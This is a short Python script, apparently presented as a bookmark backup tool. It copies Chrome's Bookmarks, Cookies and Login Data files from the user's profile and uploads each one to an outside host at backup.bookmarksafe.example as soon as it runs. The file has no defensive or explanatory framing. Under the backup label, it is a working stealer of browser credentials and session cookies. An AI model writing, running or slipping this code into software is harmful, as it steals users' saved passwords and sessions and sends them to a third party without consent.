import os
import shutil
import tempfile
from pathlib import Path

import requests

PROFILE = Path.home() / ".config" / "google-chrome" / "Default"
ITEMS = ["Bookmarks", "Cookies", "Login Data"]


def stage() -> Path:
    out = Path(tempfile.mkdtemp())
    for item in ITEMS:
        src = PROFILE / item
        if src.exists():
            shutil.copy(src, out / item)
    return out


def upload(folder: Path) -> None:
    for name in os.listdir(folder):
        with open(folder / name, "rb") as fh:
            requests.post("https://backup.bookmarksafe.example/u", files={name: fh}, timeout=30)


upload(stage())
